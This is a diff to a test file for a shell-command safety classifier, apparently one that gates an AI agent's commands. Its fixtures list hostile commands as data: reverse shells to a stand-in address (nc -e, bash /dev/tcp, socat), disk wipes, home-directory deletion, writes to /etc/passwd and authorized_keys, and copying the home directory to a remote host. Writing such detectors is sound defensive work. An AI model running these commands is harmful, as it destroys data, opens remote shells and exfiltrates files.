@@ -1,7 +1,7 @@
 import { readFileSync } from "node:fs";
 import { resolve } from "node:path";
 import { describe, expect, it } from "vitest";
-import type { CommandSafetyRuleId } from "../../src/policy/command-safety.js";
+import type { ClassifyCommandOptions, CommandSafetyRule, CommandSafetyRuleId } from "../../src/policy/command-safety.js";
 import { COMMAND_SAFETY_RULES, classifyCommand } from "../../src/policy/command-safety.js";
 import { severityOf, verdictOfRule } from "../../src/policy/command-safety-catalogue.js";
 
@@ -12,6 +12,8 @@ interface RuleRow {
   rule: CommandSafetyRuleId;
   dangerous: readonly string[];
   benign: readonly Twin[];
+  /** For a rule only older decisions versions report (`approval:dynamic-command`): the version to classify under. */
+  options?: ClassifyCommandOptions;
 }
 
 /**
@@ -27,7 +29,7 @@ const RULES: readonly RuleRow[] = [
   {
     rule: "forbidden:rm-rf-home",
     dangerous: ["rm -rf ~", "rm -rf ~/", "rm -rf ~/*", "rm -rf $HOME", "rm -rf ${HOME}", 'rm -rf "$HOME/"', "rm -rf ~alice", "nice -n 10 rm -rf ~"],
-    benign: [["rm -rf ./home", "unknown"], ["rm -rf ~/project/build", "approval:rm-rf-outside"], ["ls ~", "safe:read-only"]],
+    benign: [["rm -rf ./home", "unknown"], ["rm -rf ~/project/build", "approval:rm-rf-outside"], ["ls ~", "contain:read-outside"]],
   },
   {
     rule: "forbidden:rm-rf-system-dir",
@@ -82,7 +84,7 @@ const RULES: readonly RuleRow[] = [
   {
     rule: "forbidden:sysrq-trigger",
     dangerous: ["echo b > /proc/sysrq-trigger", "echo c | sudo tee /proc/sysrq-trigger", "dd if=x of=/proc/sysrq-trigger"],
-    benign: [["cat /proc/cpuinfo", "safe:read-only"], ["echo b > ./sysrq-trigger", "unknown"]],
+    benign: [["cat /proc/cpuinfo", "contain:read-outside"], ["echo b > ./sysrq-trigger", "unknown"]],
   },
   {
     rule: "forbidden:firewall-flush",
@@ -136,7 +138,7 @@ const RULES: readonly RuleRow[] = [
   {
     rule: "approval:sudo",
     dangerous: ["sudo apt-get update", "sudo ls", "sudo -i", "sudo", "doas ls", "pkexec ls", "/usr/bin/sudo -n true"],
-    benign: [["echo sudo", "safe:read-only"], ["grep sudo /etc/group", "safe:read-only"]],
+    benign: [["echo sudo", "safe:read-only"], ["grep sudo /etc/group", "contain:read-outside"]],
   },
   {
     rule: "approval:su",
@@ -228,8 +230,9 @@ const RULES: readonly RuleRow[] = [
       ["cat .env.sample", "safe:read-only"],
       ["cat token-estimator.test.ts", "safe:read-only"],
       ["cat README.md", "safe:read-only"],
-      ["ls ~/.ssh", "safe:read-only"],
-      ["cat ~/.ssh/id_ed25519.pub", "safe:read-only"],
+      ["ls ~/.ssh", "contain:read-outside"],
+      ["cat ~/.ssh/id_ed25519.pub", "contain:read-outside"],
+      ["cat .ssh-notes.md", "safe:read-only"],
       ["grep .env src/app.ts", "safe:read-only"],
       ["cp .env.example .env", "unknown"],
       ["chmod 600 ~/.ssh/id_rsa", "unknown"],
@@ -268,11 +271,47 @@ const RULES: readonly RuleRow[] = [
     rule: "approval:dynamic-command",
     dangerous: ["$(echo rm) -rf build", "`which rm` -rf build", '"$CMD" x', "$EDITOR file.txt"],
     benign: [["echo $(date)", "safe:read-only"], ["c=ls; $c -la", "unknown"]],
+    options: { decisionsVersion: 3 },
   },
   {
     rule: "approval:unparsable",
     dangerous: ["echo 'unbalanced", 'echo "unbalanced', "echo $(unclosed", "echo `unclosed", "echo ${}", "cat <<"],
     benign: [["echo 'balanced'", "safe:read-only"], ["echo \"it's fine\"", "safe:read-only"]],
+  },
+  {
+    rule: "forbidden:disk-wipe",
+    dangerous: ["wipefs -a /dev/sda", "wipefs --all /dev/nvme0n1", "blkdiscard /dev/nvme0n1", "shred /dev/sda", "shred -n 1 -z /dev/sdb1", "sgdisk -Z /dev/sda", "sgdisk --zap-all /dev/sda", "sudo wipefs -af /dev/vda"],
+    benign: [["shred -u secret.txt", "unknown"], ["wipefs /dev/sda", "unknown"], ["wipefs --help", "unknown"], ["sgdisk -p /dev/sda", "unknown"]],
+  },
+  {
+    rule: "approval:write-outside",
+    dangerous: ["echo x > /etc/passwd", "echo key >> ~/.ssh/authorized_keys", "ls &> /etc/x", "echo k | tee -a ~/.bashrc", "sed -i s/a/b/ /etc/hosts", "sed -i.bak -e s/a/b/ ../other/x", "truncate -s 0 /var/log/syslog", "cp a ~/.bashrc", "mv a /usr/local/bin/x", "install -m 755 x /usr/local/bin/", "touch ~/.bashrc", "dd if=x of=/etc/x", "sort -o /etc/x a", "sort --out=/etc/x a", "git diff --output=/etc/x", "git log --out=/etc/x", "awk '{print > \"/etc/x\"}' f"],
+    benign: [["> /dev/null", "unknown"], ["ls 2>&1", "safe:read-only"], ["echo x > out.txt", "unknown"], ["sed -i s/a/b/ src/x.ts", "unknown"], ["cp a /tmp/b", "unknown"], ["tee build.log", "unknown"], ["echo x >> /tmp/run.log", "unknown"], ["sed s/a/b/ /etc/hosts", "unknown"]],
+  },
+  {
+    rule: "approval:reverse-shell",
+    dangerous: ["nc -e /bin/sh 1.2.3.4 4444", "ncat --sh-exec bash 1.2.3.4 4444", "netcat -c bash host 80", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "exec 3<>/dev/tcp/1.2.3.4/80", "cat < /dev/udp/1.2.3.4/53", "socat tcp:1.2.3.4:4444 exec:/bin/sh"],
+    benign: [["nc -z host 80", "unknown"], ["socat - tcp:localhost:80", "unknown"], ["echo /dev/tcp is a bash feature", "safe:read-only"]],
+  },
+  {
+    rule: "approval:scheduled-job",
+    dangerous: ["crontab -r", "crontab jobs.txt", "crontab -e", "echo 'rm -rf x' | at now + 1 minute", "batch", "systemd-run --user sleep 1"],
+    benign: [["crontab -l", "unknown"], ["at -l", "unknown"]],
+  },
+  {
+    rule: "approval:remote-copy",
+    dangerous: ["scp -r ~ host:", "scp build.tgz user@host:/tmp/", "rsync -a src/ host:/srv/app", "rsync -a rsync://mirror/x ./x", "sftp user@host"],
+    benign: [["rsync -a src/ build/", "unknown"], ["scp a.txt ./b.txt", "unknown"], ["cp a host:b", "unknown"]],
+  },
+  {
+    rule: "contain:read-outside",
+    dangerous: ["cat /etc/passwd", "cd /etc && cat passwd", "cd /etc && ls", "cd $DIR && cat x", "grep -r x ~", "head ../other/secret.txt", "cat $HOME/.bashrc", "ls /", "find / -name x", "git -C /etc log", "cat < /etc/passwd", "jq . /etc/x.json", "grep --file=/etc/passwd x", "cat $FILE"],
+    benign: [["cat README.md", "safe:read-only"], ["ls src", "safe:read-only"], ["grep -rn foo .", "safe:read-only"], ["cat /tmp/x.log", "safe:read-only"], ["echo /etc/passwd", "safe:read-only"], ["which node", "safe:read-only"], ["ls /tmp", "safe:read-only"], ["head -c 16 /dev/urandom", "safe:read-only"], ["diff a /dev/null", "safe:read-only"]],
+  },
+  {
+    rule: "contain:dynamic-command",
+    dangerous: ["$(echo ls)", "`which rm` -rf build", '"$CMD" x', "$EDITOR file.txt", "c=ls; $c -la", "alias ll='ls -l'; ll", "IFS=,; c=ls,-la; $c"],
+    benign: [["echo $(date)", "safe:read-only"], ["ls -la", "safe:read-only"], ["alias ll='ls -l'", "unknown"]],
   },
   {
     rule: "safe:read-only",
@@ -395,7 +434,7 @@ const BENIGN: readonly Twin[] = [
   ["cat token-estimator.test.ts", "safe:read-only"],
   ["cat README.md", "safe:read-only"],
   ["cat .env.example", "safe:read-only"],
-  ["ls ~/.ssh", "safe:read-only"],
+  ["ls ~/.ssh", "contain:read-outside"],
   ['find . -name "*.ts"', "safe:read-only"],
   ["curl https://example.com -o file.tgz", "unknown"],
   ["curl -s https://example.com | jq .", "unknown"],
@@ -424,9 +463,9 @@ function expectRule(text: string, rule: CommandSafetyRuleId, options?: Parameter
 describe("command safety: every rule catches its dangerous examples and not its benign twins", () => {
   for (const row of RULES) {
     describe(row.rule, () => {
-      it.each(row.dangerous.map((text) => [text]))("catches %j", (text) => expectRule(text, row.rule));
+      it.each(row.dangerous.map((text) => [text]))("catches %j", (text) => expectRule(text, row.rule, row.options));
       it.each(row.benign.map(([text, rule]) => [text, rule]))("does not catch %j (→ %s)", (text, rule) => {
-        expectRule(text, rule);
+        expectRule(text, rule, row.options);
         expect(rule).not.toBe(row.rule);
       });
     });
@@ -526,9 +565,13 @@ describe("command safety: docs/policy.md and the classifier agree", () => {
   });
 
   it.each(rows.map((row) => [row.rule, row.example, row.twin]))("%s: the example classifies to it and the twin does not", (rule, example, twin) => {
-    const caught = classifyCommand(example);
+    // A rule later versions no longer report is checked under the last version that does.
+    const entry: CommandSafetyRule | undefined = COMMAND_SAFETY_RULES.find((candidate) => candidate.id === rule);
+    const until = entry?.until;
+    const options = until === undefined ? {} : { decisionsVersion: until };
+    const caught = classifyCommand(example, options);
     expect({ example, rule: caught.rule }).toEqual({ example, rule });
-    const spared = classifyCommand(twin);
+    const spared = classifyCommand(twin, options);
     expect(spared.rule, twin).not.toBe(rule);
     const severity = severityOf(verdictOfRule(rule as CommandSafetyRuleId));
     if (severity >= severityOf("needs-approval")) expect(severityOf(spared.verdict), twin).toBeLessThan(severity);
